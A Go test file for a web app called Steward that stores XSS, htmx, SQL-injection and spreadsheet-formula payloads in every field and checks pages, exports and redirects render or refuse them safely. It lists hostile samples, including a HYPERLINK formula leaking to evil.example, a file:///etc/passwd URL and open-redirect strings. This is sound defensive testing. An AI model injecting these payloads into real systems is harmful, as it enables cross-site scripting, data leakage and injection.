package handlers_test

// Stored hostile input: markup, attribute breakers, javascript: URLs, htmx
// attributes, SQL metacharacters and spreadsheet formulas typed into every
// free-text field of every kind of record, then every page, fragment, print
// view and export that shows them is fetched and checked to be inert. And
// what must be refused is: control characters, javascript: URLs, fields over
// their length and bodies over 1 MiB.

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"testing"

	"golang.org/x/net/html"

	"steward/db"
	"steward/views/icons"
)

// hostile are the payloads stored in every free-text field.
var hostile = []string{
	`<script>alert(1)</script>`,
	`"><img src=x onerror=alert(1)>`,
	`' onmouseover='alert(1)`,
	`javascript:alert(1)`,
	`hx-get="/logout" hx-trigger="load"`,
	`'; DROP TABLE owners; --`,
	`=HYPERLINK("https://evil.example/?leak","click")`,
	`</textarea><svg onload=alert(1)>`,
}

// hostileMarkers are parts of the payloads that no attribute which makes
// a browser or htmx act (a URL, an event handler, an hx-* setting) may
// ever hold.
var hostileMarkers = []string{"alert", "logout", "evil.example", "drop table", "onerror", "onload", "onmouseover", "<", ">"}

// urlAttributes are the attributes a browser follows or loads.
var urlAttributes = map[string]bool{"href": true, "src": true, "action": true, "formaction": true, "poster": true,
	"data": true, "srcset": true, "xlink:href": true, "background": true, "cite": true, "ping": true}

// htmxURLAttributes are htmx's request attributes.
var htmxURLAttributes = map[string]bool{"hx-get": true, "hx-post": true, "hx-put": true, "hx-patch": true, "hx-delete": true}

// activeScheme reports whether a URL runs code or carries a document of its
// own, as a browser would read it: ASCII white space and control
// characters anywhere are dropped and case does not matter.
func activeScheme(u string) bool {
	u = strings.Map(func(r rune) rune {
		if r <= ' ' || r == 0x7f {
			return -1
		}
		return r
	}, strings.ToLower(html.UnescapeString(u)))
	for _, scheme := range []string{"javascript:", "vbscript:", "data:"} {
		if strings.HasPrefix(u, scheme) {
			return true
		}
	}
	return false
}

// isIcon reports whether an <svg> is one of Steward's icons (views/icons),
// which no test payload imitates: their opening tag, to the attribute.
func isIcon(tok html.Token) bool {
	var b bytes.Buffer
	if err := icons.Check().Render(context.Background(), &b); err != nil {
		return false
	}
	z := html.NewTokenizer(&b)
	z.Next()
	return z.Token().String() == tok.String()
}

// inertProblems parses an HTML page or fragment as a browser would and
// lists what a stored or reflected value could have made active: a script
// that is not one of Steward's own files, an element Steward's templates
// never use, an event-handler attribute, a URL with an active scheme, or an
// htmx attribute holding part of a payload. It also returns the page's text
// and attribute values, decoded, to check the payload is shown.
func inertProblems(body string) (problems []string, shown string) {
	var text strings.Builder
	z := html.NewTokenizer(strings.NewReader(body))
	inScript := false
	for {
		tt := z.Next()
		switch tt {
		case html.ErrorToken:
			if z.Err() != io.EOF {
				problems = append(problems, "does not parse: "+z.Err().Error())
			}
			return problems, text.String()
		case html.TextToken:
			if inScript && strings.TrimSpace(string(z.Text())) != "" {
				problems = append(problems, "inline script: "+string(z.Text()))
			}
			text.Write(z.Text())
		case html.EndTagToken:
			inScript = false
		case html.StartTagToken, html.SelfClosingTagToken:
			tok := z.Token()
			switch tok.Data {
			case "script":
				inScript = tt == html.StartTagToken
				if src := attr(tok, "src"); !strings.HasPrefix(src, "/static/") {
					problems = append(problems, fmt.Sprintf("script with src %q", src))
				}
			case "img", "svg", "iframe", "frame", "object", "embed", "base", "math", "style", "link", "meta":
				if tok.Data == "link" && attr(tok, "rel") == "stylesheet" && strings.HasPrefix(attr(tok, "href"), "/static/") ||
					tok.Data == "link" && attr(tok, "rel") == "icon" ||
					tok.Data == "svg" && isIcon(tok) ||
					tok.Data == "meta" && attr(tok, "http-equiv") == "" {
					break
				}
				problems = append(problems, "element Steward never renders: "+tok.String())
			}
			for _, a := range tok.Attr {
				key, val := strings.ToLower(a.Key), strings.ToLower(a.Val)
				text.WriteString(" " + a.Val)
				hx := strings.TrimPrefix(key, "data-")
				switch {
				case strings.HasPrefix(key, "on"):
					problems = append(problems, fmt.Sprintf("event handler %s=%q on <%s>", a.Key, a.Val, tok.Data))
				case key == "style":
					problems = append(problems, fmt.Sprintf("style attribute on <%s>", tok.Data))
				case urlAttributes[key] && activeScheme(a.Val) && !(tok.Data == "link" && a.Val == "data:,"): // the layout's empty icon
					problems = append(problems, fmt.Sprintf("%s=%q on <%s>", a.Key, a.Val, tok.Data))
				case htmxURLAttributes[hx]:
					// A fixed path of Steward's; a query string may carry the
					// user's search, URL-encoded.
					path, _, _ := strings.Cut(val, "?")
					if !strings.HasPrefix(path, "/") || strings.HasPrefix(path, "//") || containsAny(path, hostileMarkers) {
						problems = append(problems, fmt.Sprintf("%s=%q on <%s>", a.Key, a.Val, tok.Data))
					}
				case strings.HasPrefix(hx, "hx-") && containsAny(val, hostileMarkers):
					problems = append(problems, fmt.Sprintf("%s=%q on <%s>", a.Key, a.Val, tok.Data))
				}
			}
		}
	}
}

func attr(tok html.Token, key string) string {
	for _, a := range tok.Attr {
		if a.Key == key {
			return a.Val
		}
	}
	return ""
}

func containsAny(s string, parts []string) bool {
	for _, p := range parts {
		if strings.Contains(s, p) {
			return true
		}
	}
	return false
}

// expectInert fails the test for every problem inertProblems finds, and
// for the payloads' raw markup anywhere in the body.
func expectInert(t *testing.T, where string, r response) string {
	t.Helper()
	problems, shown := inertProblems(r.body)
	for _, raw := range []string{"<script>alert", "<img src=x", "<svg onload", "</textarea><svg"} {
		if strings.Contains(r.body, raw) {
			problems = append(problems, "raw "+raw)
		}
	}
	if ct := r.header.Get("Content-Type"); !strings.HasPrefix(ct, "text/html") {
		problems = append(problems, "Content-Type "+ct)
	}
	for _, p := range problems {
		t.Errorf("%s: %s", where, p)
	}
	return shown
}

// hostileRecords are the records made for one payload.
type hostileRecords struct {
	payload                                                       string
	owner, account, role, botRole, systemUser, integration, token int64
	ownerChecklist, tokenChecklist                                int64
}

// hostileEmail is a valid email address with an attribute breaker in it.
func hostileEmail(prefix string, i int) string {
	return fmt.Sprintf("%s%d'onmouseover='alert@example.com", prefix, i)
}

// hostileURL is a valid https URL carrying the payload.
func hostileURL(p string) string { return "https://example.com/" + p }

func TestHostileInputRenderedInert(t *testing.T) {
	t.Parallel()
	app := newTestApp(t)
	app.createUser("admin@example.com", db.RoleAdmin)
	c := app.signedIn("admin@example.com")

	created := func(r response, prefix, what string) int64 {
		t.Helper()
		if r.status != http.StatusSeeOther {
			t.Fatalf("create %s: status %d, want 303; errors %v", what, r.status, fieldErrors(r.body))
		}
		if prefix == "/roles/" && r.location() == "/roles" { // a role's form goes back to the list
			return app.count("SELECT MAX(id) FROM roles")
		}
		return idFromLocation(t, r, prefix)
	}
	// The team's standing items come first, so every checklist lists them.
	for _, p := range hostile {
		if r := c.post("/admin/checklists", url.Values{"kind": {"owner"}, "text": {p}}); r.status != http.StatusSeeOther {
			t.Fatalf("standing item %q: status %d", p, r.status)
		}
	}

	var recs []hostileRecords
	for i, p := range hostile {
		rec := hostileRecords{payload: p}
		manager := ""
		if i > 0 {
			manager = id(recs[0].owner)
		}
		rec.owner = created(c.post("/owners", url.Values{"name": {p}, "email": {hostileEmail("o", i)}, "title": {p}, "department": {p},
			"manager_id": {manager}, "status": {db.OwnerOffboarding}, "leaving_on": {"2030-01-01"}, "notes": {p}}), "/owners/", "owner")
		parent := ""
		if i > 0 {
			parent = id(recs[0].account)
		}
		rec.account = created(c.post("/accounts", url.Values{"name": {p}, "platform": {p}, "kind": {p}, "external_id": {p},
			"url": {hostileURL(p)}, "parent_id": {parent}, "owner_id": {id(rec.owner)}, "criticality": {"high"}, "status": {"active"},
			"notes": {p}}), "/accounts/", "account")
		rec.integration = created(c.post("/integrations", url.Values{"name": {p}, "description": {p}, "runs_on": {p},
			"responsible_owner_id": {id(rec.owner)}, "status": {"active"}, "notes": {p}}), "/integrations/", "integration")
		rec.systemUser = created(c.post("/system-users", url.Values{"name": {p}, "account_id": {id(rec.account)}, "external_id": {p},
			"admin": {"1"}, "responsible_owner_id": {id(rec.owner)}, "integration_id": {id(rec.integration)}, "status": {"active"},
			"notes": {p}}), "/system-users/", "system user")
		rec.role = created(c.post("/roles", url.Values{"account_id": {id(rec.account)}, "owner_id": {id(rec.owner)}, "role": {p},
			"admin": {"1"}, "granted_on": {"2024-01-01"}, "granted_by": {p}, "status": {"active"}, "notes": {p}}), "/roles/", "role")
		rec.botRole = created(c.post("/roles", url.Values{"account_id": {id(rec.account)}, "system_user_id": {id(rec.systemUser)},
			"role": {p + " bot"}, "status": {"active"}}), "/roles/", "system user's role")
		rec.token = created(c.post("/tokens", url.Values{"name": {p}, "kind": {"api_key"}, "account_id": {id(rec.account)},
			"system_user_id": {id(rec.systemUser)}, "integration_id": {id(rec.integration)}, "responsible_owner_id": {id(rec.owner)},
			"created_by_owner_id": {id(rec.owner)}, "scopes": {p}, "assets": {p}, "issued_on": {"2024-01-01"}, "stored_in": {p},
			"status": {"active"}, "notes": {p}}), "/tokens/", "token")

		// A checklist note on the person's offboarding; a completion reason
		// on the token's revocation.
		if r := c.post(path("/owners/:id/checklist", rec.owner), url.Values{"due_on": {""}}); r.status != http.StatusSeeOther {
			t.Fatalf("start owner checklist: status %d", r.status)
		}
		rec.ownerChecklist = app.count("SELECT id FROM checklists WHERE subject_kind = 'owner' AND subject_id = ?", rec.owner)
		item := app.count("SELECT MIN(id) FROM checklist_items WHERE checklist_id = ?", rec.ownerChecklist)
		if r := c.post(tickPath(rec.ownerChecklist, item), url.Values{"done": {"1"}, "note": {p}}); r.status != http.StatusSeeOther {
			t.Fatalf("tick with a note: status %d", r.status)
		}
		if r := c.post(path("/tokens/:id/checklist", rec.token), url.Values{"due_on": {""}}); r.status != http.StatusSeeOther {
			t.Fatalf("start token checklist: status %d", r.status)
		}
		rec.tokenChecklist = app.count("SELECT id FROM checklists WHERE subject_kind = 'token' AND subject_id = ?", rec.token)
		if r := c.post(completePath(rec.tokenChecklist), url.Values{"reason": {p}}); r.status != http.StatusSeeOther {
			t.Fatalf("complete with a reason: status %d, errors %v", r.status, fieldErrors(r.body))
		}
		recs = append(recs, rec)
	}
	// A login with an attribute breaker in its email, and failed sign-ins
	// whose typed email is markup (they show in the audit log).
	if r := c.post("/admin/users", url.Values{"email": {hostileEmail("u", 0)}, "password": {testPassword}, "role": {db.RoleViewer},
		"owner_id": {id(recs[0].owner)}}); r.status != http.StatusSeeOther {
		t.Fatalf("create user: status %d, errors %v", r.status, fieldErrors(r.body))
	}
	for _, p := range hostile[:2] {
		if r := app.newClient().signIn(p, "wrong password"); r.status != http.StatusUnauthorized {
			t.Errorf("failed sign-in as %q: status %d", p, r.status)
		}
	}
	// An import whose cells are payloads: the preview shows them, then applies.
	var csvRows []string
	for i, p := range hostile {
		csvRows = append(csvRows, fmt.Sprintf(`"%s",%s,"%s"`, strings.ReplaceAll(p, `"`, `""`), hostileEmail("imp", i),
			strings.ReplaceAll(p, `"`, `""`)))
	}
	preview := c.upload("/owners/import", hostile[1]+".csv", csvFile(append([]string{"name,email,notes"}, csvRows...)...))
	if preview.status != http.StatusOK {
		t.Fatalf("import preview: status %d", preview.status)
	}
	expectInert(t, "import preview", preview)
	if r := c.confirmImport(preview); r.status != http.StatusSeeOther {
		t.Fatalf("import apply: status %d", r.status)
	}

	// Everything is stored exactly as typed, and the SQL did nothing.
	for _, rec := range recs {
		p := rec.payload
		for _, q := range []struct {
			query string
			id    int64
		}{
			{"SELECT COUNT(*) FROM owners WHERE id = ?1 AND name = ?2 AND title = ?2 AND department = ?2 AND notes = ?2", rec.owner},
			{"SELECT COUNT(*) FROM accounts WHERE id = ?1 AND name = ?2 AND platform = ?2 AND kind = ?2 AND external_id = ?2 AND notes = ?2", rec.account},
			{"SELECT COUNT(*) FROM roles WHERE id = ?1 AND role = ?2 AND granted_by = ?2 AND notes = ?2", rec.role},
			{"SELECT COUNT(*) FROM system_users WHERE id = ?1 AND name = ?2 AND external_id = ?2 AND notes = ?2", rec.systemUser},
			{"SELECT COUNT(*) FROM integrations WHERE id = ?1 AND name = ?2 AND description = ?2 AND runs_on = ?2 AND notes = ?2", rec.integration},
			{"SELECT COUNT(*) FROM tokens WHERE id = ?1 AND name = ?2 AND scopes = ?2 AND assets = ?2 AND stored_in = ?2 AND notes = ?2", rec.token},
			{"SELECT COUNT(*) FROM checklists WHERE id = ?1 AND reason = ?2", rec.tokenChecklist},
			{"SELECT COUNT(*) FROM checklist_items WHERE checklist_id = ?1 AND note = ?2", rec.ownerChecklist},
			{"SELECT COUNT(*) FROM standing_items WHERE ?1 > 0 AND text = ?2", 1},
		} {
			if app.count(q.query, q.id, p) != 1 {
				t.Errorf("%q not stored as typed: %s", p, q.query)
			}
		}
	}
	if n := app.count("SELECT COUNT(*) FROM owners"); n != int64(2*len(hostile)) {
		t.Errorf("owners = %d, want %d", n, 2*len(hostile))
	}

	// Every page, fragment and print view that shows the records.
	htmx := func(target string) reqOpt { return asHTMX(target) }
	type page struct {
		path string
		opts []reqOpt
		must string // a payload the page must show, decoded; "" for any
	}
	var pages []page
	kinds := []struct {
		base string
		id   func(hostileRecords) int64
	}{
		{"/owners", func(r hostileRecords) int64 { return r.owner }},
		{"/accounts", func(r hostileRecords) int64 { return r.account }},
		{"/roles", func(r hostileRecords) int64 { return r.role }},
		{"/system-users", func(r hostileRecords) int64 { return r.systemUser }},
		{"/integrations", func(r hostileRecords) int64 { return r.integration }},
		{"/tokens", func(r hostileRecords) int64 { return r.token }},
	}
	for _, k := range kinds {
		for _, rec := range recs {
			base := k.base + "/" + id(k.id(rec))
			pages = append(pages,
				page{base, nil, rec.payload},
				page{base + "/edit", nil, rec.payload},
				page{base + "/timeline", nil, rec.payload},
				page{base + "/timeline?before=999999999", []reqOpt{htmx("timeline-more")}, rec.payload},
				page{base + "/checklist", nil, rec.payload})
		}
		for _, p := range hostile {
			pages = append(pages, page{k.base + "?q=" + url.QueryEscape(p), []reqOpt{htmx("list")}, ""})
		}
		pages = append(pages,
			page{k.base, nil, ""},
			page{k.base + "?q=alert", nil, ""},
			page{k.base + "?q=alert&sort=name&desc=1", []reqOpt{htmx("list")}, ""},
			page{k.base + "?q=" + url.QueryEscape(hostile[0]), nil, hostile[0]},
			page{k.base + "/new", nil, ""})
	}
	for _, rec := range recs {
		for _, cid := range []int64{rec.ownerChecklist, rec.tokenChecklist} {
			pages = append(pages,
				page{"/checklists/" + id(cid) + "/timeline", nil, rec.payload},
				page{"/checklists/" + id(cid) + "/timeline?before=999999999", []reqOpt{htmx("timeline-more")}, rec.payload})
		}
	}
	pages = append(pages,
		page{"/", nil, ""},
		page{"/search?q=alert", nil, ""},
		page{"/search?q=DROP", nil, hostile[5]},
		page{"/search?q=alert", []reqOpt{htmx("header-results")}, ""},
		page{"/search?q=" + url.QueryEscape(hostile[1]), []reqOpt{htmx("header-results")}, hostile[1]},
		page{"/search?q=" + url.QueryEscape(hostile[0]), nil, hostile[0]},
		page{"/audit", nil, ""},
		page{"/audit?actor=" + url.QueryEscape(hostile[0]) + "&action=" + url.QueryEscape(hostile[1]), nil, ""},
		page{"/audit?before=999999999", []reqOpt{htmx("")}, ""},
		page{"/admin/users", nil, hostileEmail("u", 0)},
		page{"/admin/checklists", nil, hostile[0]},
		page{"/tokens?status=active&sort=expires_on", nil, ""})
	for _, pg := range pages {
		where := pg.path
		if len(pg.opts) > 0 {
			where += " (htmx)"
		}
		r := c.get(pg.path, pg.opts...)
		if r.status != http.StatusOK {
			t.Errorf("GET %s: status %d, want 200", where, r.status)
			continue
		}
		shown := expectInert(t, "GET "+where, r)
		if pg.must != "" && !strings.Contains(shown, pg.must) {
			t.Errorf("GET %s does not show %q: the check above saw nothing hostile", where, pg.must)
		}
		if pg.must == "" && !containsAny(shown, hostile) && !strings.Contains(shown, "alert") {
			t.Errorf("GET %s shows no payload at all: the check above saw nothing hostile", where)
		}
	}

	// Forms posted with payloads that fail validation re-render them inert.
	for _, p := range hostile {
		r := c.post("/owners", url.Values{"name": {p}, "email": {p}, "notes": {p}, "status": {"active"}})
		if r.status != http.StatusUnprocessableEntity {
			t.Errorf("owner with email %q: status %d, want 422", p, r.status)
		}
		expectInert(t, "422 owner form", r)
		r = c.post(path("/owners/:id/checklist", recs[0].owner), url.Values{"due_on": {p}})
		if r.status >= 500 {
			t.Errorf("checklist with due date %q: status %d", p, r.status)
		}
		r = c.post("/tokens/lookup", url.Values{"secret": {p}})
		if r.status != http.StatusOK {
			t.Errorf("lookup %q: status %d", p, r.status)
		}
		expectInert(t, "token lookup", r)
	}

	// Exports: CSV cells cannot run as formulas; JSON is JSON, never HTML,
	// and carries the values as typed.
	exports := []string{"/export.json", "/audit/export.csv", "/audit/export.json"}
	for _, k := range kinds {
		exports = append(exports, k.base+"/export.csv", k.base+"/export.json", k.base+"/export.csv?q=alert")
	}
	for _, p := range exports {
		r := c.get(p)
		if r.status != http.StatusOK {
			t.Errorf("GET %s: status %d", p, r.status)
			continue
		}
		if !strings.HasPrefix(r.header.Get("Content-Disposition"), "attachment") {
			t.Errorf("GET %s: Content-Disposition %q, want an attachment", p, r.header.Get("Content-Disposition"))
		}
		if r.header.Get("X-Content-Type-Options") != "nosniff" {
			t.Errorf("GET %s: no nosniff", p)
		}
		ct := r.header.Get("Content-Type")
		if strings.Contains(p, ".csv") {
			if !strings.HasPrefix(ct, "text/csv") {
				t.Errorf("GET %s: Content-Type %q", p, ct)
			}
			_, rows := parseCSV(t, r.body)
			formulas := 0
			for _, row := range rows {
				for col, v := range row {
					if v != "" && strings.ContainsAny(v[:1], "=+-@\t\r") {
						t.Errorf("GET %s: column %s cell %q would run as a formula", p, col, v)
					}
					if v == "'"+hostile[6] {
						formulas++
					}
				}
			}
			if !strings.HasPrefix(p, "/audit") && !strings.Contains(p, "?") && formulas == 0 {
				t.Errorf("GET %s: the neutralised formula payload is not in the file", p)
			}
			continue
		}
		if !strings.HasPrefix(ct, "application/json") {
			t.Errorf("GET %s: Content-Type %q", p, ct)
		}
		var v any
		if err := json.Unmarshal([]byte(r.body), &v); err != nil {
			t.Errorf("GET %s: not JSON: %v", p, err)
			continue
		}
		found := map[string]bool{}
		walkJSON(v, func(s string) { found[s] = true })
		for _, h := range hostile {
			if !found[h] && !strings.HasPrefix(p, "/audit") {
				t.Errorf("GET %s: %q is not in the file as typed", p, h)
			}
		}
	}
}

// walkJSON calls fn with every string in a decoded JSON value.
func walkJSON(v any, fn func(string)) {
	switch v := v.(type) {
	case string:
		fn(v)
	case []any:
		for _, e := range v {
			walkJSON(e, fn)
		}
	case map[string]any:
		for _, e := range v {
			walkJSON(e, fn)
		}
	}
}

// hostileForms are each kind's create route, a valid form, and its
// free-text fields.
func hostileForms(account, owner int64) []struct {
	path   string
	valid  url.Values
	fields []string
} {
	return []struct {
		path   string
		valid  url.Values
		fields []string
	}{
		{"/owners", url.Values{"name": {"Valid"}, "status": {"active"}}, []string{"name", "email", "title", "department", "notes"}},
		{"/accounts", url.Values{"name": {"Valid"}, "platform": {"Meta"}, "criticality": {"medium"}, "status": {"active"}},
			[]string{"name", "platform", "kind", "external_id", "url", "notes"}},
		{"/roles", url.Values{"account_id": {id(account)}, "owner_id": {id(owner)}, "role": {"Valid"}, "status": {"active"}},
			[]string{"role", "granted_by", "notes"}},
		{"/system-users", url.Values{"name": {"Valid"}, "account_id": {id(account)}, "status": {"active"}},
			[]string{"name", "external_id", "notes"}},
		{"/integrations", url.Values{"name": {"Valid"}, "status": {"active"}}, []string{"name", "description", "runs_on", "notes"}},
		{"/tokens", url.Values{"name": {"Valid"}, "kind": {"api_key"}, "status": {"active"}},
			[]string{"name", "scopes", "assets", "stored_in", "notes"}},
		{"/admin/checklists", url.Values{"kind": {"owner"}, "text": {"Valid"}}, []string{"text"}},
		{"/admin/users", url.Values{"email": {"valid@example.com"}, "password": {testPassword}, "role": {"viewer"}}, []string{"email"}},
	}
}

// TestHostileInputRefused checks what validation must refuse, in every
// free-text field of every kind, with the field's message and nothing
// written: control characters, bytes that are not UTF-8, values over the
// field's length (422) and bodies over 1 MiB (413, never a 500); URLs that
// are not http(s); email addresses with markup.
func TestHostileInputRefused(t *testing.T) {
	t.Parallel()
	app := newTestApp(t)
	app.createUser("admin@example.com", db.RoleAdmin)
	c := app.signedIn("admin@example.com")
	owner := app.createOwner("Olga Owner", "olga@example.com")
	account := app.createAccount("Acme BM", "Meta")
	integration := app.createIntegrationFor("CRM sync", owner)
	if err := app.store.AddStandingItem(t.Context(), db.SystemActor("test"), "integration", "Tell the team"); err != nil {
		t.Fatal(err)
	}
	checklist, err := app.store.StartChecklist(t.Context(), db.SystemActor("test"), "integration", integration, "")
	if err != nil {
		t.Fatal(err)
	}
	item := app.count("SELECT MIN(id) FROM checklist_items WHERE checklist_id = ?", checklist)

	refused := func(where string, r response, status int, field, message string) {
		t.Helper()
		if r.status != status {
			t.Errorf("%s: status %d, want %d", where, r.status, status)
			return
		}
		if status == http.StatusUnprocessableEntity {
			if !slices.Contains(fieldErrors(r.body), field) || !strings.Contains(r.body, message) {
				t.Errorf("%s: errors beside %v, want %q saying %q", where, fieldErrors(r.body), field, message)
			}
			expectInert(t, where, r)
		} else if !strings.Contains(r.body, "That was too large") {
			t.Errorf("%s: not the friendly 413 page", where)
		}
	}
	controls := map[string]string{
		"NUL": "a\x00b", "escape sequence": "\x1b[31mred", "bell": "ding\x07", "DEL": "del\x7f", "backspace": "abc\b\b\bxyz",
		"C1 CSI": "a\u009b31mb", "C1 next line": "a\u0085b",
	}
	before := app.wholeSnapshot()
	for _, f := range hostileForms(account, owner) {
		for i, field := range f.fields {
			send := func(v string) response {
				form := cloneValues(f.valid)
				form.Set(field, v)
				return c.post(f.path, form)
			}
			// Every control character in the kind's first field (they share
			// one validator), one of each range in every field.
			for name, v := range controls {
				if i == 0 || name == "escape sequence" || name == "C1 CSI" {
					refused(fmt.Sprintf("POST %s %s with %s", f.path, field, name), send(v), http.StatusUnprocessableEntity, field, "control characters")
				}
			}
			refused(fmt.Sprintf("POST %s %s not UTF-8", f.path, field), send("caf\xe9"), http.StatusUnprocessableEntity, field, "not UTF-8")
			refused(fmt.Sprintf("POST %s %s of 20 kB", f.path, field), send(strings.Repeat("x", 20_001)), http.StatusUnprocessableEntity, field, "At most")
			refused(fmt.Sprintf("POST %s %s of 1 MiB", f.path, field), send(strings.Repeat("x", 1<<20)), http.StatusRequestEntityTooLarge, "", "")
		}
	}
	// Checklist notes and completion reasons.
	for name, v := range controls {
		refused("tick note with "+name, c.post(tickPath(checklist, item), url.Values{"done": {"1"}, "note": {v}}),
			http.StatusUnprocessableEntity, "note", "control characters")
		refused("completion reason with "+name, c.post(completePath(checklist), url.Values{"reason": {v}}),
			http.StatusUnprocessableEntity, "reason", "control characters")
	}
	refused("tick note of 1 MiB", c.post(tickPath(checklist, item), url.Values{"done": {"1"}, "note": {strings.Repeat("x", 1<<20)}}),
		http.StatusRequestEntityTooLarge, "", "")
	// URLs that run code or leave the http(s) web, in creates and updates.
	for _, u := range []string{"javascript:alert(1)", "JavaScript:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)",
		"javascript://example.com/%0aalert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)",
		"//evil.example/", "https:alert(1)", "file:///etc/passwd"} {
		form := url.Values{"name": {"Linked"}, "platform": {"Meta"}, "url": {u}, "status": {"active"}}
		refused(fmt.Sprintf("account with url %q", u), c.post("/accounts", form), http.StatusUnprocessableEntity, "url", "https://")
		refused(fmt.Sprintf("account updated to url %q", u), c.post(path("/accounts/:id", account), form), http.StatusUnprocessableEntity, "url", "https://")
	}
	// Markup is not an email address.
	for _, p := range hostile {
		refused(fmt.Sprintf("user with email %q", p), c.post("/admin/users", url.Values{"email": {p + "@example.com"},
			"password": {testPassword}, "role": {"viewer"}}), http.StatusUnprocessableEntity, "email", "email address")
	}
	if after := app.wholeSnapshot(); after != before {
		t.Error("a refused form changed the database")
	}
	// The same in an import: the file is refused row by row, nothing written.
	for _, tc := range []struct{ kind, file string }{
		{"accounts", "name,platform,url\nLinked,Meta,javascript:alert(1)\n"},
		{"owners", "name,notes\n\"a\x1b[31mb\",x\n"},
		{"tokens", "name,kind,notes\nT,api_key,\"bell\x07\"\n"},
	} {
		r := c.upload("/"+tc.kind+"/import", "bad.csv", []byte(tc.file))
		if r.status != http.StatusUnprocessableEntity || len(tagsWith(r.body, "import-confirm")) != 0 {
			t.Errorf("import of %s %q: status %d, confirm offered %v; want 422 and no confirm", tc.kind, tc.file, r.status,
				len(tagsWith(r.body, "import-confirm")) != 0)
		}
		expectInert(t, "import preview of "+tc.kind, r)
	}
	if after := app.wholeSnapshot(); after != before {
		t.Error("a refused import changed the database")
	}
}

// TestReflectedInputInert checks values a request carries but nothing
// stores: search boxes, filters and where to go after signing in.
func TestReflectedInputInert(t *testing.T) {
	t.Parallel()
	app := newTestApp(t)
	app.createUser("viewer@example.com", db.RoleViewer)
	c := app.signedIn("viewer@example.com")
	for _, p := range hostile {
		q := url.QueryEscape(p)
		for _, pg := range []struct {
			path   string
			target string
		}{
			{"/owners?q=" + q + "&status=" + q + "&sort=" + q, ""},
			{"/tokens?q=" + q + "&status=" + q + "&expiry=" + q, "list"},
			{"/search?q=" + q, ""},
			{"/search?q=" + q, "header-results"},
			{"/audit?actor=" + q + "&kind=" + q + "&action=" + q + "&from=" + q, ""},
		} {
			var opts []reqOpt
			if pg.target != "" {
				opts = append(opts, asHTMX(pg.target))
			}
			r := c.get(pg.path, opts...)
			if r.status != http.StatusOK && r.status != http.StatusUnprocessableEntity {
				t.Errorf("GET %s: status %d", pg.path, r.status)
				continue
			}
			expectInert(t, "GET "+pg.path, r)
		}
		r := app.newClient().get("/login?next=" + q)
		if r.status != http.StatusOK {
			t.Errorf("GET /login?next=%s: status %d", q, r.status)
		}
		expectInert(t, "sign-in page with next", r)
	}
	// After signing in, next never leads off the site, however it is spelled.
	for _, next := range []string{"//evil.example/", "/\t/evil.example/", "/\\evil.example/", "/\t\\evil.example/", "/\n/evil.example/",
		"https://evil.example/", "javascript:alert(1)", " //evil.example/", "/\x00/evil.example/"} {
		r := app.newClient().post("/login", url.Values{"email": {"viewer@example.com"}, "password": {testPassword}, "next": {next}})
		loc := r.location()
		stripped := strings.Map(func(r rune) rune {
			if r == '\t' || r == '\n' || r == '\r' {
				return -1
			}
			if r == '\\' {
				return '/'
			}
			return r
		}, loc)
		if r.status != http.StatusSeeOther || !strings.HasPrefix(stripped, "/") || strings.HasPrefix(stripped, "//") {
			t.Errorf("sign in with next %q: status %d, Location %q leads off the site", next, r.status, loc)
		}
	}
}
